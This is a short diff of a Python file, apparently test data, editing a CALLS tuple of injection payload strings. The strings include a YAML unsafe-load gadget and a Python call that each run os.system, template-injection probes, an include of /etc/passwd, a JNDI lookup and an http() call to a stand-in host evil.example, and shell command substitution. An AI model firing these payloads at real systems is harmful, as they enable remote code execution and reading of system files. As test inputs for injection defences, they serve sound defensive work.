@@ -17,7 +17,7 @@ CALLS = (
     "!!python/object/apply:os.system ['touch owned']",
     "{{resolve:ssm:/x}} ${file(evil.js):x} ${env:HOME} ${ssm:/x} ${http(http://evil.example)}",
     "__import__('os').system('touch owned')",
-    "${jndi:ldap://evil.example/a} {{7*7}} {% include '/etc/passwd' %} $(touch owned) `touch owned`",
+    "${jndi:ldap://evil.example/a} {{7*7}} {% include '/etc/passwd' %} $(touch owned)",
 )
 
 WATCHED = """
